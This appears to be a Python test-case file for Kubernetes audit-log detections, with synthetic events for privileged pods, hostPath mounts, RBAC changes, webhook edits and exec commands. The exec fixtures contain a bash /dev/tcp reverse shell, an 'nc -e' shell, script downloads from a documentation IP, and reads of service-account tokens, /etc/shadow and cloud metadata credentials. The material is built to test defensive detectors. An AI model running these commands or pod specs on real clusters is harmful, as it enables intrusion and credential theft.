"""Cases for the point-in-time and threshold detections."""

from __future__ import annotations

from datetime import timedelta as td

from make_events import T0, case, ev, missing, pod_body, pod_create

CTRL_DS = "system:serviceaccount:kube-system:daemon-set-controller"

# --- privileged workloads -------------------------------------------------------------------------------------
root_pod = pod_body(
    "node-shell",
    "default",
    hostPID=True,
    hostNetwork=True,
    containers=[{"name": "sh", "image": "alpine:3.20", "securityContext": {"privileged": True}}],
    volumes=[{"name": "host", "hostPath": {"path": "/"}}],
)
case(
    "hostpid-pod",
    [
        pod_create(T0, root_pod, user="mallory@example.com"),
        ev(
            T0 + td(minutes=5),
            "create",
            "daemonsets",
            group="apps",
            ns="monitoring",
            level="Request",
            req={
                "metadata": {"name": "agent", "namespace": "monitoring"},
                "spec": {
                    "template": {"spec": {"hostPID": True, "containers": [{"name": "a", "image": "x"}]}}
                },
            },
        ),
    ],
    [
        pod_create(T0, pod_body("web", "default")),
        # the daemon-set controller creating the pods of a reviewed daemonset is not reported again
        pod_create(T0, pod_body("agent-x1", "monitoring", hostPID=True), user=CTRL_DS),
        # a failed request changes nothing
        pod_create(T0, pod_body("node-shell", "default", hostPID=True), code=403),
        pod_create(T0, pod_body("quiet", "default", hostPID=False)),
    ],
    fire_rows=2,
)

case(
    "hostipc-pod",
    [pod_create(T0, pod_body("shm", "default", hostIPC=True), user="mallory@example.com")],
    [
        pod_create(T0, pod_body("shm", "default", hostIPC=False)),
        pod_create(T0, pod_body("shm", "default", hostPID=True)),
        pod_create(T0, pod_body("kube-proxy-x", "kube-system", hostIPC=True), user="system:node:node-1"),
    ],
    fire_rows=1,
)

case(
    "hostpath-mount",
    [
        pod_create(T0, root_pod, user="mallory@example.com"),
        pod_create(
            T0, pod_body("sock", "ci", volumes=[{"name": "d", "hostPath": {"path": "/var/run/docker.sock"}}])
        ),
        pod_create(
            T0, pod_body("kl", "ci", volumes=[{"name": "d", "hostPath": {"path": "/var/lib/kubelet/pki/"}}])
        ),
        # a workload template, logged without the user's groups or sourceIPs; a path spelled to look harmless
        missing(
            ev(
                T0 + td(minutes=1),
                "create",
                "daemonsets",
                group="apps",
                ns="ops",
                level="Request",
                req={
                    "metadata": {"name": "agent", "namespace": "ops"},
                    "spec": {
                        "template": {
                            "spec": {
                                "containers": [{"name": "a", "image": "x"}],
                                "volumes": [
                                    {"name": "k", "hostPath": {"path": "//etc/kubernetes/./pki"}},
                                    {"name": "l", "hostPath": {"path": "/var/log"}},
                                ],
                            }
                        }
                    },
                },
            ),
            "user.groups",
            "sourceIPs",
        ),
        pod_create(
            T0, pod_body("up", "ci", volumes=[{"name": "d", "hostPath": {"path": "/var/log/../../etc"}}])
        ),
    ],
    [
        pod_create(
            T0, pod_body("logs", "logging", volumes=[{"name": "d", "hostPath": {"path": "/var/log"}}])
        ),
        pod_create(
            T0,
            pod_body(
                "dp",
                "kube-system",
                volumes=[{"name": "d", "hostPath": {"path": "/var/lib/kubelet-plugins-x"}}],
            ),
        ),
        pod_create(T0, pod_body("e", "default", volumes=[{"name": "d", "emptyDir": {}}])),
        pod_create(T0, root_pod, user="dev@example.com"),
        # refused; made by the daemon-set controller from a reviewed template; logged without a body
        pod_create(T0, root_pod, code=403),
        pod_create(
            T0, pod_body("agent-x1", "ops", volumes=[{"name": "d", "hostPath": {"path": "/"}}]), user=CTRL_DS
        ),
        missing(pod_create(T0, root_pod, level="Metadata"), "requestObject", "responseObject"),
        pod_create(
            T0,
            pod_body(
                "gpu",
                "kube-system",
                volumes=[{"name": "d", "hostPath": {"path": "/var/lib/kubelet/device-plugins"}}],
            ),
        ),
    ],
    fire_rows=5,
    settings={
        "allowlists": {
            "query_lists": {
                "hostpath-mount": [
                    {"value": "dev@example.com", "reason": "node debugging account, reviewed monthly"}
                ]
            }
        }
    },
)


def cap_container(add: list[str]) -> dict:
    return {"name": "a", "image": "x", "securityContext": {"capabilities": {"add": add}}}


def debug_container(suffix: str, add: list[str]) -> dict:
    return {
        "name": f"debugger-{suffix}",
        "image": "busybox",
        "securityContext": {"capabilities": {"add": add}},
    }


case(
    "dangerous-capabilities",
    [
        pod_create(
            T0,
            pod_body(
                "cap",
                "default",
                containers=[
                    {
                        "name": "a",
                        "image": "x",
                        "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}},
                    }
                ],
            ),
        ),
        pod_create(
            T0,
            pod_body(
                "cap2",
                "default",
                containers=[{"name": "a", "image": "x"}],
                initContainers=[
                    {
                        "name": "i",
                        "image": "y",
                        "securityContext": {"capabilities": {"add": ["CAP_SYS_PTRACE"]}},
                    }
                ],
            ),
        ),
        # a debug container added to a running pod, logged without groups or sourceIPs
        missing(
            ev(
                T0 + td(minutes=1),
                "patch",
                "pods",
                ns="apps",
                name="api-1",
                sub="ephemeralcontainers",
                level="Request",
                req={"spec": {"ephemeralContainers": [debug_container("x", ["SYS_ADMIN"])]}},
            ),
            "user.groups",
            "sourceIPs",
        ),
        pod_create(T0, pod_body("ebpf", "default", containers=[cap_container(["cap_bpf"])])),
    ],
    [
        pod_create(
            T0,
            pod_body(
                "ok",
                "default",
                containers=[
                    {
                        "name": "a",
                        "image": "x",
                        "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}},
                    }
                ],
            ),
        ),
        # runtime-default capabilities; no securityContext; refused; no body
        pod_create(T0, pod_body("ping", "default", containers=[cap_container(["NET_RAW", "DAC_OVERRIDE"])])),
        pod_create(T0, pod_body("plain", "default")),
        pod_create(T0, pod_body("no", "default", containers=[cap_container(["ALL"])]), code=403),
        missing(
            pod_create(T0, pod_body("meta", "default"), level="Metadata"), "requestObject", "responseObject"
        ),
        # kubectl debug --profile=general: SYS_PTRACE for the debug container (ephemeral-container reports it)
        ev(
            T0,
            "patch",
            "pods",
            ns="apps",
            name="api-1",
            sub="ephemeralcontainers",
            level="Request",
            req={"spec": {"ephemeralContainers": [debug_container("y", ["SYS_PTRACE"])]}},
        ),
    ],
    fire_rows=4,
)

# --- configuration and indicator removal ---------------------------------------------------------------------
WH = {
    "kind": "MutatingWebhookConfiguration",
    "metadata": {"name": "pod-patcher"},
    "webhooks": [{"name": "p.example.io", "clientConfig": {"url": "https://203.0.113.50/mutate"}}],
}
case(
    "admission-webhook-change",
    [
        ev(
            T0,
            "create",
            "mutatingwebhookconfigurations",
            group="admissionregistration.k8s.io",
            name="pod-patcher",
            level="RequestResponse",
            req=WH,
            resp=WH,
            user="mallory@example.com",
        ),
        ev(
            T0,
            "delete",
            "validatingwebhookconfigurations",
            group="admissionregistration.k8s.io",
            name="kyverno",
        ),
    ],
    [
        ev(
            T0,
            "get",
            "mutatingwebhookconfigurations",
            group="admissionregistration.k8s.io",
            name="pod-patcher",
        ),
        ev(
            T0,
            "patch",
            "validatingwebhookconfigurations",
            group="admissionregistration.k8s.io",
            name="x",
            user="system:serviceaccount:kube-system:generic-garbage-collector",
        ),
        ev(
            T0,
            "update",
            "validatingwebhookconfigurations",
            group="admissionregistration.k8s.io",
            name="gatekeeper",
            user="system:serviceaccount:gatekeeper-system:gatekeeper-admin",
        ),
        ev(T0, "create", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", code=403),
    ],
    fire_rows=2,
    settings={
        "allowlists": {
            "automation_users": [
                {
                    "value": "system:serviceaccount:gatekeeper-system:gatekeeper-admin",
                    "reason": "OPA Gatekeeper manages its webhook",
                }
            ]
        }
    },
)

case(
    "events-deleted",
    [
        ev(T0, "deletecollection", "events", ns="prod", user="mallory@example.com"),
        ev(T0, "delete", "events", ns="prod", name="web-1.17f3", group="events.k8s.io"),
        # a service account an intruder created in kube-system with a platform-looking name
        ev(
            T0,
            "deletecollection",
            "events",
            ns="kube-system",
            user="system:serviceaccount:kube-system:kube-controller",
        ),
    ],
    [
        ev(T0, "list", "events", ns="prod"),
        ev(T0, "delete", "events", ns="prod", name="x", user="system:kube-controller-manager"),
        ev(
            T0,
            "deletecollection",
            "events",
            ns="old",
            user="system:serviceaccount:kube-system:namespace-controller",
        ),
        ev(T0, "delete", "pods", ns="prod", name="x"),
    ],
    fire_rows=3,
)

case(
    "secrets-list-clusterwide",
    [
        ev(T0, "list", "secrets", user="system:serviceaccount:apps:reporter", ip="198.51.100.7"),
        ev(T0, "list", "secrets", ns="kube-system", user="bob@example.com"),
    ],
    [
        ev(T0, "list", "secrets", ns="apps"),
        ev(T0, "list", "secrets", user="system:kube-controller-manager"),
        ev(T0, "list", "secrets", ip="127.0.0.1"),
        ev(T0, "list", "secrets", code=403),
        ev(T0, "watch", "secrets", user="system:serviceaccount:cert-manager:cert-manager"),
    ],
    fire_rows=2,
    settings={
        "allowlists": {
            "automation_users": [
                {
                    "value": "system:serviceaccount:cert-manager:cert-manager",
                    "reason": "cert-manager watches all secrets",
                }
            ]
        }
    },
)


def exec_ev(t, ns, pod, cmd, *, user="alice@example.com", code=101, stage="ResponseStarted", audit_id=None):
    from urllib.parse import quote

    q = "&".join(f"command={quote(c, safe='')}" for c in cmd.split(" "))
    return ev(
        t,
        "create",
        "pods",
        ns=ns,
        name=pod,
        sub="exec",
        code=code,
        stage=stage,
        user=user,
        audit_id=audit_id,
        uri=f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}&container=c&stderr=true&stdout=true",
    )


def exec_request(t, ns, pod, cmd, stages=("RequestReceived", "ResponseStarted", "ResponseComplete"), **kw):
    """One exec request as an audit policy logs it at `stages`: one auditID, no status at RequestReceived.

    ("ResponseComplete",) is a policy that omits ResponseStarted (and RequestReceived); all three count once.
    """
    events = []
    for stage in stages:
        e = exec_ev(t, ns, pod, cmd, stage=stage, audit_id=events[0]["auditID"] if events else None, **kw)
        if stage == "RequestReceived":
            del e["responseStatus"]
            e["stageTimestamp"] = e["requestReceivedTimestamp"]
        events.append(e)
    return events


def exec_stage_variants(t, ns, pod, cmd, **kw):
    """The same exec logged with only ResponseComplete, and with all three stages: one finding each."""
    return [
        *exec_request(t, ns, pod, cmd, stages=("ResponseComplete",), **kw),
        *exec_request(t + td(minutes=1), ns, pod, cmd, **kw),
    ]


TOKEN = "cat /var/run/secrets/kubernetes.io/serviceaccount/token"
case(
    "exec-cmd-credential-files",
    [
        exec_ev(
            T0,
            "kube-system",
            "kube-proxy-7xk2p",
            TOKEN,
            user="mallory@example.com",
            audit_id="c0ffee00-0000-4000-8000-000000000001",
        ),
        exec_ev(
            T0,
            "kube-system",
            "kube-proxy-7xk2p",
            TOKEN,
            user="mallory@example.com",
            stage="ResponseComplete",
            audit_id="c0ffee00-0000-4000-8000-000000000001",
        ),
        exec_ev(T0, "apps", "api-1", "sh -c cat /etc/shadow"),
        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", TOKEN),
    ],
    [
        exec_ev(T0, "apps", "api-1", "cat /etc/resolv.conf"),
        exec_ev(T0, "apps", "api-1", TOKEN, code=403, stage="ResponseComplete"),
        ev(T0, "get", "pods", ns="apps", name="api-1"),
        *exec_request(T0, "apps", "api-1", TOKEN, stages=("RequestReceived",)),
    ],
    fire_rows=4,
)
case(
    "exec-cmd-cloud-metadata",
    [
        exec_ev(
            T0, "apps", "api-1", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        ),
        *exec_stage_variants(
            T0 + td(minutes=5), "apps", "api-1", "curl -s http://169.254.169.254/latest/api/token"
        ),
    ],
    [
        exec_ev(T0, "apps", "api-1", "curl -s http://api.apps.svc:8080/healthz"),
        *exec_request(
            T0, "apps", "api-1", "curl -s http://169.254.169.254/", stages=("ResponseComplete",), code=403
        ),
    ],
    fire_rows=3,
)
case(
    "exec-cmd-reverse-shell",
    [
        exec_ev(T0, "apps", "api-1", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", "sh -c nc -e /bin/sh 203.0.113.9 4444"),
    ],
    [
        exec_ev(T0, "apps", "api-1", "bash -c ls /tmp"),
        *exec_request(
            T0,
            "apps",
            "api-1",
            "sh -c nc -e /bin/sh 203.0.113.9 4444",
            stages=("ResponseComplete",),
            code=403,
        ),
    ],
    fire_rows=3,
)
case(
    "exec-cmd-download-https",
    [
        exec_ev(T0, "apps", "api-1", "curl -sLO https://203.0.113.9/x.sh"),
        *exec_stage_variants(T0 + td(minutes=5), "apps", "api-1", "wget -q https://203.0.113.9/y.sh"),
    ],
    [
        exec_ev(T0, "apps", "api-1", "curl -s http://localhost:8080/healthz"),
        *exec_request(
            T0, "apps", "api-1", "wget -q https://203.0.113.9/y.sh", stages=("ResponseComplete",), code=403
        ),
        exec_ev(T0, "apps", "api-1", "wget -qO- http://api.apps.svc.cluster.local/metrics"),
    ],
    fire_rows=3,
)
case(
    "exec-cmd-kubectl-cp",
    [
        exec_ev(T0, "db", "postgres-0", "tar cf - /var/lib/postgresql/data"),
        *exec_stage_variants(T0 + td(minutes=5), "db", "postgres-0", "tar cf - /etc/postgresql"),
    ],
    [
        exec_ev(T0, "db", "postgres-0", "tar xmf - -C /tmp"),
        *exec_request(T0, "db", "postgres-0", "tar cf - /etc", stages=("ResponseComplete",), code=403),
    ],
    fire_rows=3,
)
case(
    "exec-kube-system-pod",
    [
        exec_ev(
            T0,
            "kube-system",
            "kube-proxy-7xk2p",
            TOKEN,
            user="mallory@example.com",
            audit_id="c0ffee00-0000-4000-8000-000000000002",
        ),
        exec_ev(
            T0,
            "kube-system",
            "kube-proxy-7xk2p",
            TOKEN,
            user="mallory@example.com",
            stage="ResponseComplete",
            audit_id="c0ffee00-0000-4000-8000-000000000002",
        ),
        *exec_stage_variants(
            T0 + td(minutes=5), "kube-system", "coredns-1", "sh", user="mallory@example.com"
        ),
    ],
    [
        exec_ev(T0, "apps", "api-1", "ls"),
        exec_ev(T0, "kube-system", "coredns-1", "ls", code=403, stage="ResponseComplete"),
        *exec_request(T0, "kube-system", "coredns-1", "sh", stages=("RequestReceived",)),
    ],
    fire_rows=3,
)
case(
    "ephemeral-container",
    [ev(T0, "patch", "pods", ns="apps", name="api-1", sub="ephemeralcontainers")],
    [
        ev(T0, "get", "pods", ns="apps", name="api-1", sub="ephemeralcontainers"),
        ev(T0, "patch", "pods", ns="apps", name="api-1", sub="status", user="system:node:node-1"),
    ],
    fire_rows=1,
)
case(
    "node-proxy-access",
    [
        ev(
            T0,
            "create",
            "nodes",
            name="node-1",
            sub="proxy",
            uri="/api/v1/nodes/node-1/proxy/run/default/web/app?cmd=id",
        )
    ],
    [
        ev(
            T0,
            "get",
            "nodes",
            name="node-1",
            sub="proxy",
            uri="/api/v1/nodes/node-1/proxy/metrics/cadvisor",
            user="system:serviceaccount:monitoring:prometheus",
        ),
        ev(T0, "get", "nodes", name="node-1"),
    ],
    fire_rows=1,
)

# --- RBAC and credentials ------------------------------------------------------------------------------------
from make_events import binding_body, role_body  # noqa: E402

case(
    "sa-token-request",
    [ev(T0, "create", "serviceaccounts", ns="ci", name="deployer", sub="token", user="bob@example.com")],
    [
        ev(T0, "create", "serviceaccounts", ns="apps", name="api", sub="token", user="system:node:node-1"),
        ev(T0, "create", "serviceaccounts", ns="ci", name="deployer", sub="token", code=403),
        ev(
            T0,
            "create",
            "serviceaccounts",
            ns="ci",
            name="deployer",
            user="system:serviceaccount:ci:token-broker",
        ),
    ],
    fire_rows=1,
)
case(
    "csr-created-approved",
    [
        ev(
            T0,
            "create",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="mallory-admin",
            user="mallory@example.com",
        ),
        ev(
            T0,
            "update",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="mallory-admin",
            sub="approval",
            user="mallory@example.com",
        ),
        # a log without the user's groups, without sourceIPs, or without the user at all is still judged
        missing(
            ev(
                T0,
                "create",
                "certificatesigningrequests",
                group="certificates.k8s.io",
                name="eve-admin",
                user="eve@example.com",
            ),
            "user.groups",
            "sourceIPs",
        ),
        missing(
            ev(T0, "create", "certificatesigningrequests", group="certificates.k8s.io", name="who-admin"),
            "user.username",
            "user.groups",
        ),
    ],
    [
        ev(
            T0,
            "create",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="csr-x1",
            user="system:node:node-1",
        ),
        ev(
            T0,
            "create",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="csr-x2",
            user="system:bootstrap:abcdef",
            groups=["system:bootstrappers", "system:authenticated"],
        ),
        ev(
            T0,
            "update",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="csr-x1",
            sub="approval",
            user="system:kube-controller-manager",
        ),
        # a node's request without its groups is still a node's
        missing(
            ev(
                T0,
                "create",
                "certificatesigningrequests",
                group="certificates.k8s.io",
                name="csr-x3",
                user="system:node:node-2",
            ),
            "user.groups",
        ),
        ev(
            T0,
            "create",
            "certificatesigningrequests",
            group="certificates.k8s.io",
            name="denied",
            user="mallory@example.com",
            code=403,
        ),
    ],
    fire_rows=4,
)
R = "rbac.authorization.k8s.io"
wild = role_body("ClusterRole", "ops-all", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
sens = role_body(
    "Role",
    "debugger",
    [
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]},
    ],
    ns="apps",
)
plain = role_body(
    "Role",
    "reader",
    [{"apiGroups": [""], "resources": ["pods", "configmaps"], "verbs": ["get", "list"]}],
    ns="apps",
)
case(
    "role-wildcard",
    [
        ev(
            T0,
            "create",
            "clusterroles",
            group=R,
            name="ops-all",
            level="RequestResponse",
            req=wild,
            resp=wild,
            user="mallory@example.com",
        )
    ],
    [
        ev(
            T0,
            "create",
            "roles",
            group=R,
            ns="apps",
            name="reader",
            level="RequestResponse",
            req=plain,
            resp=plain,
        ),
        ev(
            T0,
            "update",
            "clusterroles",
            group=R,
            name="admin",
            level="RequestResponse",
            req=wild,
            resp=wild,
            user="system:serviceaccount:kube-system:clusterrole-aggregation-controller",
        ),
    ],
    fire_rows=1,
)
case(
    "role-sensitive-perms",
    [
        ev(
            T0,
            "create",
            "roles",
            group=R,
            ns="apps",
            name="debugger",
            level="RequestResponse",
            req=sens,
            resp=sens,
        )
    ],
    [
        ev(
            T0,
            "create",
            "roles",
            group=R,
            ns="apps",
            name="reader",
            level="RequestResponse",
            req=plain,
            resp=plain,
        ),
        ev(
            T0,
            "create",
            "roles",
            group=R,
            ns="apps",
            name="debugger",
            level="RequestResponse",
            req=sens,
            resp=sens,
            user="system:serviceaccount:argocd:argocd-application-controller",
        ),
    ],
    fire_rows=1,
    settings={
        "allowlists": {
            "automation_users": [
                {
                    "value": "system:serviceaccount:argocd:argocd-application-controller",
                    "reason": "GitOps applies reviewed RBAC",
                }
            ]
        }
    },
)
dflt = binding_body(
    "RoleBinding",
    "default-admin",
    "ClusterRole",
    "admin",
    [{"kind": "ServiceAccount", "name": "default", "namespace": "apps"}],
    ns="apps",
)
other = binding_body(
    "RoleBinding",
    "api-admin",
    "ClusterRole",
    "admin",
    [{"kind": "ServiceAccount", "name": "api", "namespace": "apps"}],
    ns="apps",
)
view = binding_body(
    "RoleBinding",
    "default-view",
    "ClusterRole",
    "view",
    [{"kind": "ServiceAccount", "name": "default", "namespace": "apps"}],
    ns="apps",
)
case(
    "admin-to-default-sa",
    [
        ev(
            T0,
            "create",
            "rolebindings",
            group=R,
            ns="apps",
            name="default-admin",
            level="RequestResponse",
            req=dflt,
            resp=dflt,
        )
    ],
    [
        ev(
            T0,
            "create",
            "rolebindings",
            group=R,
            ns="apps",
            name="api-admin",
            level="RequestResponse",
            req=other,
        ),
        ev(
            T0,
            "create",
            "rolebindings",
            group=R,
            ns="apps",
            name="default-view",
            level="RequestResponse",
            req=view,
        ),
    ],
    fire_rows=1,
)
anon = binding_body(
    "ClusterRoleBinding",
    "anon-view",
    "ClusterRole",
    "view",
    [{"kind": "User", "name": "system:anonymous", "apiGroup": R}],
)
case(
    "anonymous-access-granted",
    [
        ev(
            T0,
            "create",
            "clusterrolebindings",
            group=R,
            name="anon-view",
            level="RequestResponse",
            req=anon,
            resp=anon,
        )
    ],
    [
        ev(
            T0,
            "create",
            "clusterrolebindings",
            group=R,
            name="anon-view",
            level="RequestResponse",
            req=anon,
            code=403,
        ),
        ev(
            T0,
            "create",
            "rolebindings",
            group=R,
            ns="apps",
            name="api-admin",
            level="RequestResponse",
            req=other,
        ),
    ],
    fire_rows=1,
)
case(
    "impersonation-privileged",
    [
        ev(
            T0,
            "get",
            "secrets",
            ns="kube-system",
            name="x",
            impersonate={"username": "system:admin", "groups": ["system:masters"]},
        ),
        ev(T0, "list", "pods", impersonate={"username": "bob", "groups": ["system:masters"]}),
    ],
    [
        ev(
            T0,
            "get",
            "pods",
            ns="apps",
            impersonate={"username": "dev@example.com", "groups": ["developers"]},
        ),
        ev(T0, "get", "pods", ns="apps", impersonate={"username": "system:admin"}, code=403),
    ],
    fire_rows=2,
)

# --- origin, tools, workloads ----------------------------------------------------------------------------------
SA = "system:serviceaccount:apps:config-reader"
case(
    "system-principal-public-ip",
    [
        ev(T0, "list", "secrets", user=SA, ip="203.0.113.77"),
        ev(T0 + td(seconds=5), "list", "pods", user=SA, ip="203.0.113.77"),
        ev(T0, "get", "nodes", name="node-1", user="system:node:node-1", ip="198.51.100.20"),
        # Issue 13: a stolen token from the internet with a forged `X-Forwarded-For: 10.0.0.1` is still public.
        ev(T0, "list", "secrets", user=SA, ip=["10.0.0.1", "45.155.205.233"]),
        ev(T0, "get", "nodes", name="node-3", user="system:node:node-3", ip="2a05:d014:abc::7"),
    ],
    [
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="10.244.3.17"),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="172.20.1.9"),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="100.64.2.1"),
        ev(T0, "get", "pods", user="alice@example.com", ip="203.0.113.77"),
        ev(T0, "get", "nodes", name="node-2", user="system:node:node-2", ip="192.0.2.44"),
        # Judged on the connection address: a public X-Forwarded-For entry behind an internal load balancer.
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=["203.0.113.9", "10.0.0.4"]),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="::ffff:10.0.0.7"),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="fd12:3456::9"),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="fe80::1"),
        ev(T0, "get", "nodes", name="node-4", user="system:node:node-4", ip="2001:db8:1::5"),  # trusted /32
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip="not-an-address"),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=[]),
        ev(T0, "get", "configmaps", ns="apps", name="cfg", user=SA, ip=None),
    ],
    fire_rows=4,
    settings={
        "allowlists": {
            "trusted_networks": [
                {"cidr": "192.0.2.0/24", "reason": "on-prem node subnet (NAT)"},
                {"cidr": "2001:db8::/32", "reason": "on-prem IPv6 node range"},
            ]
        }
    },
)
case(
    "attack-tool-ua",
    [
        ev(T0, "list", "pods", ua="access_matrix/v0.0.0 (linux/amd64)", code=403),
        ev(T0 + td(seconds=1), "list", "secrets", ua="access_matrix/v0.0.0 (linux/amd64)", code=403),
    ],
    [ev(T0, "list", "pods"), ev(T0, "list", "pods", ua="python-requests/2.31")],
    fire_rows=1,
)
SSAR = dict(group="authorization.k8s.io")
case(
    "self-subject-review",
    [ev(T0, "create", "selfsubjectaccessreviews", user=SA, ip="203.0.113.77", **SSAR)],
    [
        ev(T0, "create", "selfsubjectaccessreviews", **SSAR),
        ev(
            T0,
            "create",
            "selfsubjectrulesreviews",
            user="system:serviceaccount:monitoring:kube-state-metrics",
            **SSAR,
        ),
    ],
    fire_rows=1,
    settings={
        "allowlists": {
            "automation_users": [
                {
                    "value": "system:serviceaccount:monitoring:kube-state-metrics",
                    "reason": "checks its RBAC on start",
                }
            ]
        }
    },
)
case(
    "daemonset-created",
    [
        ev(
            T0,
            "create",
            "daemonsets",
            group="apps",
            ns="kube-system",
            name="node-agent",
            user="mallory@example.com",
        ),
        ev(
            T0,
            "create",
            "daemonsets",
            group="apps",
            ns="kube-system",
            name="kube-metrics",
            user="system:serviceaccount:kube-system:kube-controller",
        ),
    ],
    [
        ev(T0, "patch", "daemonsets", group="apps", ns="kube-system", name="kube-proxy"),
        ev(T0, "create", "daemonsets", group="apps", ns="kube-system", name="x", code=409),
    ],
    fire_rows=2,
)
case(
    "pod-in-system-namespace",
    [ev(T0, "create", "pods", ns="kube-system", name="debug", user="mallory@example.com")],
    [
        ev(T0, "create", "pods", ns="kube-system", name="kube-proxy-abcde", user=CTRL_DS),
        ev(T0, "create", "pods", ns="kube-system", name="kube-apiserver-node-1", user="system:node:node-1"),
        ev(T0, "create", "pods", ns="apps", name="debug"),
    ],
    fire_rows=1,
)
case(
    "cronjob-job-change",
    [
        ev(T0, "create", "cronjobs", group="batch", ns="apps", name="miner", user="mallory@example.com"),
        ev(T0, "create", "jobs", group="batch", ns="apps", name="one-off"),
    ],
    [
        ev(
            T0,
            "create",
            "jobs",
            group="batch",
            ns="apps",
            name="nightly-29001",
            user="system:serviceaccount:kube-system:cronjob-controller",
        ),
        ev(T0, "patch", "cronjobs", group="batch", ns="apps", name="nightly", user="ci-deployer"),
        ev(
            T0,
            "update",
            "cronjobs",
            group="batch",
            ns="apps",
            name="nightly",
            sub="status",
            user="mallory@example.com",
        ),
    ],
    fire_rows=2,
    settings={"allowlists": {"automation_users": [{"value": "ci-deployer", "reason": "release pipeline"}]}},
)
case(
    "sa-writes-rbac",
    [ev(T0, "create", "clusterrolebindings", group=R, name="pwn", user=SA)],
    [
        ev(
            T0,
            "update",
            "clusterroles",
            group=R,
            name="admin",
            user="system:serviceaccount:kube-system:clusterrole-aggregation-controller",
        ),
        ev(T0, "create", "rolebindings", group=R, ns="apps", name="x", user="alice@example.com"),
    ],
    fire_rows=1,
)
case(
    "system-role-modified",
    [ev(T0, "patch", "clusterroles", group=R, name="system:discovery", user="mallory@example.com")],
    [
        ev(
            T0,
            "update",
            "clusterroles",
            group=R,
            name="system:aggregate-to-admin",
            user="system:serviceaccount:kube-system:clusterrole-aggregation-controller",
        ),
        ev(T0, "patch", "clusterroles", group=R, name="app-reader"),
    ],
    fire_rows=1,
)
case(
    "aws-auth-modified",
    [ev(T0, "patch", "configmaps", ns="kube-system", name="aws-auth")],
    [
        ev(T0, "get", "configmaps", ns="kube-system", name="aws-auth"),
        ev(T0, "patch", "configmaps", ns="apps", name="aws-auth"),
    ],
    fire_rows=1,
)
case(
    "coredns-config-modified",
    [ev(T0, "update", "configmaps", ns="kube-system", name="coredns")],
    [
        ev(T0, "get", "configmaps", ns="kube-system", name="coredns"),
        ev(
            T0,
            "update",
            "configmaps",
            ns="kube-system",
            name="coredns",
            user="system:serviceaccount:kube-system:coredns-autoscaler",
        ),
    ],
    fire_rows=1,
)
case(
    "anonymous-pod-write",
    [ev(T0, "create", "pods", ns="default", name="x", user="system:anonymous", ip="203.0.113.9")],
    [
        ev(T0, "create", "pods", ns="default", name="x", user="system:anonymous", ip="203.0.113.9", code=403),
        ev(T0, "create", "pods", ns="default", name="x"),
    ],
    fire_rows=1,
)
